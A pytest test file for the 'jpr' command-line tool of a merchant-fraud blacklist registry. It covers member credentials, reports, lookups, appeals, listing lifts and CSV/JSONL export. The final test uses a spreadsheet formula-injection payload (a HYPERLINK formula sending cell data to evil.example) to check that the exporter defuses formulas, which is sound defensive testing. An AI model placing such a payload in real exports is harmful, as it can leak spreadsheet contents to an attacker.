"""The `jpr` command: tables by default, --json for scripts, one-line reasons and exit 1 on failure."""

from __future__ import annotations

import base64
import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from registry.cli.main import main
from registry.datadir import ADMIN_CREDENTIALS
from tests.conftest import Registry

RIC = "11010519491231002X"


class Jpr:
    def __init__(self, registry: Registry, capsys: pytest.CaptureFixture[str], workdir: Path) -> None:
        self.registry, self.capsys, self.workdir = registry, capsys, workdir

    def __call__(self, *argv: str, ok: bool = True) -> str:
        code = main([*argv])
        out, err = self.capsys.readouterr()
        assert (code == 0) is ok, f"exit {code}: {err}"
        if not ok:
            assert err.count("\n") == 1 and err.startswith("jpr: "), err
            return err
        return out

    def admin(self, *argv: str, ok: bool = True) -> str:
        creds = self.registry.data_dir / ADMIN_CREDENTIALS
        return self(*argv[:3], *argv[3:], "--credentials", str(creds), "--endpoint", self.registry.endpoint, ok=ok)

    def member(self, command: str, name: str, *argv: str, ok: bool = True) -> str:
        creds = self.workdir / f"{name}.credentials.json"
        return self(command, "--credentials", str(creds), "--endpoint", self.registry.endpoint, *argv, ok=ok)


@pytest.fixture
def jpr(registry: Registry, capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Jpr:
    monkeypatch.setenv("JPR_ISSUER", str(registry.data_dir / "issuer"))  # where the CA key is: the admin's machine
    return Jpr(registry, capsys, tmp_path)


REPORT_FLAGS = [
    "--role", "merchant", "--cn-ric", RIC, "--category", "fraud", "--severity", "serious",
    "--summary", "refund fraud", "--action", "store closed", "--evidence-sha256", "00" * 32,
]


def column(table: str, name: str) -> list[str]:
    """The cells of one column of a printed table (cells without spaces)."""
    header, *rows = table.strip().splitlines()
    index = header.split().index(name)
    return [row.split()[index] for row in rows]


def test_admin_review_flow_with_tables_and_json(jpr: Jpr, tmp_path: Path) -> None:
    out = jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"))
    assert "member platform-a registered" in out
    assert "PLATFORM-A" not in out and "platform-a" in jpr.admin("admin", "members", "list")
    members = json.loads(jpr.admin("admin", "members", "list", "--json"))
    assert [m["name"] for m in members] == ["platform-a"]

    receipt = json.loads(jpr.member("report", "platform-a", *REPORT_FLAGS, "--json"))
    table = jpr.admin("admin", "reports", "list", "--status", "submitted")
    assert table.splitlines()[0].split()[:3] == ["REPORT_ID", "REPORTER", "STATUS"]
    assert receipt["report_id"] in table
    assert "accepted" in jpr.admin("admin", "reports", "accept", receipt["report_id"], "--term-days", "30")
    listings = json.loads(jpr.admin("admin", "listings", "list", "--status", "active", "--json"))
    assert [l["subject_id"] for l in listings["items"]] == [receipt["subject_id"]]
    assert "verdict: DENY" in jpr.member("lookup", "platform-a", "--role", "merchant", "--cn-ric", RIC.lower())
    verdict = json.loads(jpr.member("lookup", "platform-a", "--role", "merchant", "--cn-ric", RIC, "--json"))
    assert verdict["verdict"] == "DENY" and verdict["matches"][0]["reporting_platforms"] == 1


def test_failures_exit_1_with_a_one_line_reason(jpr: Jpr, tmp_path: Path) -> None:
    jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"))
    assert "NOT_FOUND" in jpr.admin("admin", "reports", "accept", "00000000-0000-0000-0000-000000000000", ok=False)
    assert "ALREADY_EXISTS" in jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "x.json"), ok=False)
    assert "invalid cn_ric" in jpr.member("lookup", "platform-a", "--role", "merchant", "--cn-ric", "110105194912310021", ok=False)
    assert "role" in jpr.member("lookup", "platform-a", "--cn-ric", RIC, ok=False)
    assert "cannot read credentials" in jpr("lookup", "--credentials", str(tmp_path / "missing.json"), "--role", "anchor", "--phone", "13800138000", ok=False)
    assert "reason" in jpr.admin("admin", "reports", "reject", "00000000-0000-0000-0000-000000000000", "--reason", " ", ok=False)


def test_keygen_request_and_issued_certificate_make_working_credentials(jpr: Jpr, tmp_path: Path) -> None:
    jpr("member", "keygen", "platform-b", "--out-dir", str(tmp_path))
    request = json.loads((tmp_path / "platform-b.request.json").read_text())
    assert "signing_key" not in request and "PRIVATE KEY" not in json.dumps(request)
    assert (tmp_path / "platform-b.keys.json").stat().st_mode & 0o077 == 0
    jpr.admin("admin", "members", "add", "platform-b", "--request", str(tmp_path / "platform-b.request.json"), "--out", str(tmp_path / "issued.json"))
    jpr("member", "credentials", "--keys", str(tmp_path / "platform-b.keys.json"), "--issued", str(tmp_path / "issued.json"), "--out", str(tmp_path / "platform-b.credentials.json"))
    assert "verdict: CLEAR" in jpr.member("lookup", "platform-b", "--role", "anchor", "--phone", "13800138000")


def test_init_refuses_to_overwrite_an_existing_registry(jpr: Jpr, registry: Registry) -> None:
    before = (registry.data_dir / "oprf.key").read_bytes()
    assert "refusing to overwrite" in jpr("init", "--data-dir", str(registry.data_dir), ok=False)
    assert (registry.data_dir / "oprf.key").read_bytes() == before


def test_init_creates_every_part_of_a_registry(jpr: Jpr, tmp_path: Path) -> None:
    out = jpr("init", "--data-dir", str(tmp_path / "fresh"), "--name", "assoc-test")
    assert "assoc-test" in out
    assert "issuer" in out and "ca.key" in out  # says what to move offline
    files = {str(p.relative_to(tmp_path / "fresh")): p.stat().st_mode & 0o777 for p in (tmp_path / "fresh").rglob("*")}
    assert set(files) >= {"registry.toml", "registry.db", "oprf.key", "log.key", "ca.pem", "server.key", "server.pem", ADMIN_CREDENTIALS,
                          "issuer", "issuer/ca.key", "issuer/ca.pem"}
    assert "ca.key" not in files  # a replica's data directory (everything but issuer/) holds no CA key
    for secret in ("oprf.key", "log.key", "issuer/ca.key", "server.key", ADMIN_CREDENTIALS):
        assert files[secret] == 0o600, secret
    assert files["issuer"] == 0o700


def test_health_command_answers_serving_with_the_probe_certificate(jpr: Jpr, registry: Registry) -> None:
    probe = str(registry.data_dir / "probe.credentials.json")
    assert jpr("health", "--credentials", probe, "--endpoint", registry.endpoint).strip() == "SERVING"


def test_probe_certificate_may_ask_health_and_nothing_else(registry: Registry) -> None:
    import grpc

    from jpr_client import Credentials
    from jpr_client.client import secure_channel
    from jpr_client.api.jpr.v1 import registry_pb2, registry_pb2_grpc

    probe = Credentials.load(registry.data_dir / "probe.credentials.json").with_endpoint(registry.endpoint)
    with secure_channel(probe) as channel, pytest.raises(grpc.RpcError) as caught:
        registry_pb2_grpc.RegistryStub(channel).Lookup(registry_pb2.LookupRequest(), timeout=5)
    assert caught.value.code() is grpc.StatusCode.PERMISSION_DENIED


def test_init_adds_extra_server_names_to_the_certificate(jpr: Jpr, tmp_path: Path) -> None:
    from cryptography import x509

    jpr("init", "--data-dir", str(tmp_path / "d"), "--host", "registry", "--host", "10.0.0.5")
    cert = x509.load_pem_x509_certificate((tmp_path / "d" / "server.pem").read_bytes())
    names = cert.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    assert {"localhost", "registry"} <= set(names.get_values_for_type(x509.DNSName))


def test_db_commands_report_migrate_and_back_up(jpr: Jpr, registry: Registry, tmp_path: Path) -> None:
    url = registry.database.url
    current = jpr("db", "current", "--data-dir", str(registry.data_dir), "--database-url", url)
    database_line, code_line = current.strip().splitlines()
    assert database_line.split()[-1] == code_line.split()[-1]
    assert "->" in jpr("db", "upgrade", "--data-dir", str(registry.data_dir), "--database-url", url)
    target = tmp_path / "backup.db"
    if registry.database.is_sqlite:
        assert "integrity ok" in jpr("db", "backup", str(target), "--database-url", url)
        assert target.stat().st_size > 0
        assert "refusing to overwrite" in jpr("db", "backup", str(target), "--database-url", url, ok=False)
    else:
        assert "pg_dump" in jpr("db", "backup", str(target), "--database-url", url, ok=False)


def test_generate_to_an_unwritable_place_registers_nobody(jpr: Jpr, tmp_path: Path) -> None:
    assert "cannot create" in jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "no" / "x.json"), ok=False)
    assert json.loads(jpr.admin("admin", "members", "list", "--json")) == []


def test_a_bad_role_in_a_json_file_is_a_one_line_reason(jpr: Jpr, tmp_path: Path) -> None:
    jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"))
    subject = tmp_path / "subject.json"
    subject.write_text(json.dumps({"role": "streamer", "identifiers": {"phone": "13800138000"}}))
    assert "streamer" in jpr.member("lookup", "platform-a", "--file", str(subject), ok=False)


def test_resending_a_report_with_its_id_and_time_is_safe(jpr: Jpr, tmp_path: Path) -> None:
    jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"))
    signed_at = (datetime.now(UTC) + timedelta(seconds=5)).replace(microsecond=0).isoformat()
    fixed = ["--report-id", "3b1f7c9e-8d2a-4c55-9e0b-1f2a3b4c5d6e", "--created-at", signed_at]
    first = json.loads(jpr.member("report", "platform-a", *REPORT_FLAGS, *fixed, "--json"))
    again = json.loads(jpr.member("report", "platform-a", *REPORT_FLAGS, *fixed, "--json"))
    assert first == again


def test_reports_and_listings_page_through_everything_once(jpr: Jpr, tmp_path: Path) -> None:
    jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"))
    rics = ["11010519491231002X", "110101199003070978", "110102198506121230", "110105199211204569", "110101199003070978"]
    ids = {json.loads(jpr.member("report", "platform-a", *REPORT_FLAGS[:3], ric, *REPORT_FLAGS[4:], "--json"))["report_id"] for ric in rics}
    for report_id in ids:
        jpr.admin("admin", "reports", "accept", report_id)
    for kind, key, expected in (("reports", "report_id", ids), ("listings", "listing_id", None)):
        seen: list[str] = []
        token = ""
        while True:
            page = json.loads(jpr.admin("admin", kind, "list", "--page-size", "2", "--page-token", token, "--json"))
            assert len(page["items"]) <= 2
            seen.extend(item[key] for item in page["items"])
            token = page["next_page_token"]
            if not token:
                break
        assert len(seen) == len(set(seen))
        assert set(seen) == (expected if expected is not None else set(seen)) and len(seen) == (5 if kind == "reports" else 4)
    reports_token = json.loads(jpr.admin("admin", "reports", "list", "--page-size", "1", "--json"))["next_page_token"]
    assert "ListListings" in jpr.admin("admin", "listings", "list", "--page-token", reports_token, ok=False)


def test_init_without_database_prepares_keys_only(jpr: Jpr, tmp_path: Path) -> None:
    jpr("init", "--data-dir", str(tmp_path / "keys-only"), "--no-database")
    assert not (tmp_path / "keys-only" / "registry.db").exists()
    assert (tmp_path / "keys-only" / "oprf.key").exists()


def test_add_and_revoke_a_signing_key(jpr: Jpr, tmp_path: Path) -> None:
    from jpr_client.crypto import dsse

    jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"))
    public = dsse.public_key(dsse.generate_signing_key())
    added = json.loads(jpr.admin("admin", "members", "add-key", "platform-a", "--public-key", public.hex(), "--json"))
    assert added["key_id"] == dsse.key_id(public) and added["revoked_at"] is None
    assert "ALREADY_EXISTS" in jpr.admin("admin", "members", "add-key", "platform-a", "--public-key", public.hex(), ok=False)
    revoked = json.loads(jpr.admin("admin", "members", "revoke-key", "platform-a", added["key_id"], "--json"))
    assert revoked["revoked_at"] is not None
    assert "FAILED_PRECONDITION" in jpr.admin("admin", "members", "revoke-key", "platform-a", added["key_id"], ok=False)
    keys = json.loads(jpr.admin("admin", "members", "list", "--json"))[0]["keys"]
    assert [k["revoked_at"] is not None for k in keys if k["key_id"] == added["key_id"]] == [True] and len(keys) == 2


def test_retract_command_withdraws_a_report(jpr: Jpr, tmp_path: Path) -> None:
    jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"))
    receipt = json.loads(jpr.member("report", "platform-a", *REPORT_FLAGS, "--json"))
    assert "retracted" in jpr.member("retract", "platform-a", receipt["report_id"], "--reason", "filed against the wrong shop")
    assert "RETRACTED" in jpr.admin("admin", "reports", "list", "--status", "retracted")


def test_lift_command_ends_a_wrong_listing(jpr: Jpr, tmp_path: Path) -> None:
    jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"))
    receipt = json.loads(jpr.member("report", "platform-a", *REPORT_FLAGS, "--json"))
    jpr.admin("admin", "reports", "accept", receipt["report_id"])
    assert "FAILED_PRECONDITION" in jpr.admin("admin", "listings", "lift", "L1", "--grounds", "credit-repair", "--reason", "paid", ok=False)
    assert "lifted" in jpr.admin("admin", "listings", "lift", "L1", "--grounds", "correction", "--reason", "wrong person")
    assert "verdict: CLEAR" in jpr.member("lookup", "platform-a", "--role", "merchant", "--cn-ric", RIC)


def test_appeal_commands_file_and_decide(jpr: Jpr, tmp_path: Path) -> None:
    jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"))
    receipt = json.loads(jpr.member("report", "platform-a", *REPORT_FLAGS, "--json"))
    jpr.admin("admin", "reports", "accept", receipt["report_id"])
    appeal = json.loads(jpr.admin("admin", "appeals", "file", "L1", "--reason", "identity theft victim", "--json"))
    assert appeal["status"] == "PENDING"
    queue = json.loads(jpr.admin("admin", "listings", "queue", "--json"))["items"]
    assert [(i["listing_id"], i["appeal_pending"], i["appeal_id"], i["disputes"]) for i in queue] == [("L1", True, appeal["appeal_id"], 0)]
    assert column(jpr.admin("admin", "listings", "queue"), "APPEAL_ID") == [appeal["appeal_id"]]
    assert column(jpr.admin("admin", "appeals", "list", "--status", "pending"), "APPEAL_ID") == [appeal["appeal_id"]]
    assert "pending" in jpr.member("lookup", "platform-a", "--role", "merchant", "--cn-ric", RIC)
    assert "upheld" in jpr.admin("admin", "appeals", "decide", appeal["appeal_id"], "--decision", "upheld", "--reason", "police report")
    assert "verdict: CLEAR" in jpr.member("lookup", "platform-a", "--role", "merchant", "--cn-ric", RIC)
    assert jpr.admin("admin", "appeals", "list", "--status", "pending").strip() == "(none)"
    upheld = json.loads(jpr.admin("admin", "appeals", "list", "--status", "upheld", "--json"))
    assert [(a["appeal_id"], a["listing_id"], a["decision_reason"]) for a in upheld["items"]] == [(appeal["appeal_id"], "L1", "police report")]


def test_subject_commands_show_detach_and_split(jpr: Jpr, tmp_path: Path) -> None:
    jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"))
    receipt = json.loads(jpr.member("report", "platform-a", *REPORT_FLAGS, "--phone", "13800138000", "--json"))
    jpr.admin("admin", "reports", "accept", receipt["report_id"])
    shown = json.loads(jpr.admin("admin", "subject", "show", "S1", "--json"))
    phone = next(i["token_prefix"] for i in shown["identifiers"] if i["type"] == "phone")
    assert [r["report_id"] for r in shown["reports"]] == [receipt["report_id"]]
    assert "detached from S1; corrected listings: L1" in jpr.admin("admin", "subject", "detach", "S1", "--token", phone, "--reason", "not theirs")
    text = jpr.admin("admin", "subject", "show", "S1")
    assert "subject.identifier_detached" in text and "not theirs" in text and phone not in text.split("history:")[0]
    assert "INVALID_ARGUMENT" in jpr.admin("admin", "subject", "split", "S1", "--report", receipt["report_id"], "--reason", "x", ok=False)


def test_suspend_resume_and_certificate_revocation_commands(jpr: Jpr, tmp_path: Path) -> None:
    added = json.loads(jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"), "--json"))
    assert "suspended" in jpr.admin("admin", "members", "suspend", "platform-a", "--reason", "audit pending")
    assert "SUSPENDED" in jpr.member("lookup", "platform-a", "--role", "merchant", "--cn-ric", RIC, ok=False)
    assert "active again" in jpr.admin("admin", "members", "resume", "platform-a", "--reason", "audit passed")
    assert "verdict: CLEAR" in jpr.member("lookup", "platform-a", "--role", "merchant", "--cn-ric", RIC)
    assert "revoked" in jpr.admin("admin", "cert", "revoke", added["certificate_sha256"], "--reason", "laptop stolen")
    assert "has been revoked" in jpr.member("lookup", "platform-a", "--role", "merchant", "--cn-ric", RIC, ok=False)
    assert "ALREADY_EXISTS" in jpr.admin("admin", "cert", "revoke", added["certificate_sha256"], "--reason", "again", ok=False)


def test_lookup_table_shows_each_matchs_listing_id(jpr: Jpr, tmp_path: Path) -> None:
    jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"))
    receipt = json.loads(jpr.member("report", "platform-a", *REPORT_FLAGS, "--json"))
    table = jpr.member("lookup", "platform-a", "--role", "merchant", "--cn-ric", RIC).split("\n", 1)[1]
    assert column(table, "LISTING") == ["-"]  # a report under review has no listing yet
    jpr.admin("admin", "reports", "accept", receipt["report_id"])
    table = jpr.member("lookup", "platform-a", "--role", "merchant", "--cn-ric", RIC).split("\n", 1)[1]
    assert column(table, "LISTING") == ["L1"] and column(table, "SUBJECT") == [receipt["subject_id"]]


EXPORT_COLUMNS = [
    "listing_id", "subject_id", "roles", "categories", "severity", "listed_from", "listed_until", "reporting_platforms", "display_names",
]
OTHER_RICS = ["110101199003070978", "110102198506121230"]
PHONE = "13800138000"


def listed_by_cli(jpr: Jpr, member: str, ric: str, summary: str, display_name: str = "", *extra: str) -> None:
    flags = ["--role", "merchant", "--cn-ric", ric, "--category", "fraud", "--severity", "serious", "--summary", summary,
             "--action", f"store closed by {member}", "--evidence-sha256", "00" * 32, "--display-name", display_name, *extra]
    jpr.admin("admin", "reports", "accept", json.loads(jpr.member("report", member, *flags, "--json"))["report_id"])


@pytest.fixture
def export_registry(jpr: Jpr, registry: Registry, tmp_path: Path) -> list[str]:
    """L1: one subject reported by two platforms (active); L2: lifted; L3: active, no display name.
    Answers every spelling of the tokens of L1's identifiers that must never appear in an export."""
    from jpr_client import Credentials, RegistryClient, normalize

    for name in ("platform-a", "platform-b"):
        jpr.admin("admin", "members", "add", name, "--generate", "--out", str(tmp_path / f"{name}.credentials.json"))
    listed_by_cli(jpr, "platform-a", RIC, "counterfeit; cosmetics", "张*明", "--phone", PHONE)
    listed_by_cli(jpr, "platform-b", RIC, "fake sales data", "张*明")
    listed_by_cli(jpr, "platform-a", OTHER_RICS[0], "wrong shop")
    jpr.admin("admin", "listings", "lift", "L2", "--grounds", "correction", "--reason", "wrong shop")
    listed_by_cli(jpr, "platform-b", OTHER_RICS[1], "tax evasion")
    credentials = Credentials.load(tmp_path / "platform-a.credentials.json").with_endpoint(registry.endpoint)
    with RegistryClient(credentials) as client:
        tokens = [t.value for t in client.tokenize([normalize("cn_ric", RIC), normalize("phone", PHONE)])]
    return [spelling for token in tokens for spelling in (
        token.hex(), token.hex().upper(), token[:8].hex(), base64.b64encode(token).decode(), base64.urlsafe_b64encode(token).decode(),
    )]


def test_export_writes_active_listings_as_csv_without_tokens_or_free_text(jpr: Jpr, export_registry: list[str]) -> None:
    text = jpr.admin("admin", "export", "--page-size", "1")  # one listing a call: the export follows the pages
    rows = list(csv.DictReader(io.StringIO(text)))
    assert text.splitlines()[0].split(",") == EXPORT_COLUMNS
    assert [(r["listing_id"], r["subject_id"], r["reporting_platforms"], r["display_names"]) for r in rows] == [
        ("L1", "S1", "2", "张*明"), ("L3", "S3", "1", ""),
    ]
    assert (rows[0]["roles"], rows[0]["categories"], rows[0]["severity"]) == ("MERCHANT", "FRAUD", "SERIOUS")
    for stamp in (rows[0]["listed_from"], rows[0]["listed_until"]):
        assert stamp.endswith("+00:00") and datetime.fromisoformat(stamp).utcoffset() == timedelta(0)
    assert not [s for s in export_registry if s in text], "a token is in the export"
    assert "counterfeit" not in text and "store closed" not in text and "platform-" not in text

    free = list(csv.DictReader(io.StringIO(jpr.admin("admin", "export", "--with-free-text"))))
    assert (free[0]["summaries"], free[0]["platform_actions"]) == (
        "counterfeit\\; cosmetics;fake sales data", "store closed by platform-a;store closed by platform-b",
    )
    lifted = list(csv.DictReader(io.StringIO(jpr.admin("admin", "export", "--status", "lifted"))))
    assert [r["listing_id"] for r in lifted] == ["L2"]


def test_export_writes_json_lines_to_a_new_file_with_the_same_keys(jpr: Jpr, export_registry: list[str], tmp_path: Path) -> None:
    out = tmp_path / "listings.jsonl"
    said = jpr.admin("admin", "export", "--format", "jsonl", "--out", str(out), "--with-reporters", "--with-free-text")
    assert said.strip() == f"2 active listings written to {out}"
    one, none = tmp_path / "lifted.jsonl", tmp_path / "expired.jsonl"
    assert jpr.admin("admin", "export", "--status", "lifted", "--out", str(one)).strip() == f"1 lifted listing written to {one}"
    assert jpr.admin("admin", "export", "--status", "expired", "--out", str(none)).strip() == f"0 expired listings written to {none}"
    text = out.read_text(encoding="utf-8")
    first, second = (json.loads(line) for line in text.splitlines())
    assert list(first) == [*EXPORT_COLUMNS, "reporters", "summaries", "platform_actions"]
    assert first["roles"] == ["MERCHANT"] and first["display_names"] == ["张*明"] and first["reporting_platforms"] == 2
    assert first["reporters"] == ["platform-a", "platform-b"] and first["summaries"] == ["counterfeit; cosmetics", "fake sales data"]
    assert (second["listing_id"], second["display_names"], second["reporters"]) == ("L3", [], ["platform-b"])
    assert not [s for s in export_registry if s in text], "a token is in the export"
    assert out.stat().st_mode & 0o777 == 0o600
    assert "refusing to overwrite" in jpr.admin("admin", "export", "--out", str(out), ok=False)
    plain = [json.loads(line) for line in jpr.admin("admin", "export", "--format", "jsonl").splitlines()]
    assert [list(r) for r in plain] == [EXPORT_COLUMNS, EXPORT_COLUMNS] and "wrong shop" not in json.dumps(plain)


@pytest.mark.parametrize(("flag", "value"), [("--status", "everything"), ("--format", "xlsx")])
def test_export_refuses_an_unknown_status_or_format_as_a_usage_error_naming_the_flag(
    capsys: pytest.CaptureFixture[str], flag: str, value: str
) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["admin", "export", flag, value, "--credentials", "unused.json"])
    assert exited.value.code == 2
    assert f"argument {flag}: invalid choice: '{value}'" in capsys.readouterr().err


def test_export_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(jpr: Jpr, tmp_path: Path) -> None:
    jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"))
    listed_by_cli(jpr, "platform-a", RIC, '=HYPERLINK("http://evil.example/?"&A1,"open")', "@张*明")
    (row,) = csv.DictReader(io.StringIO(jpr.admin("admin", "export", "--with-free-text")))
    assert row["summaries"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"open")' and row["display_names"] == "'@张*明"
    (line,) = jpr.admin("admin", "export", "--format", "jsonl", "--with-free-text").splitlines()
    assert json.loads(line)["summaries"] == ['=HYPERLINK("http://evil.example/?"&A1,"open")']  # JSON is data, not a sheet
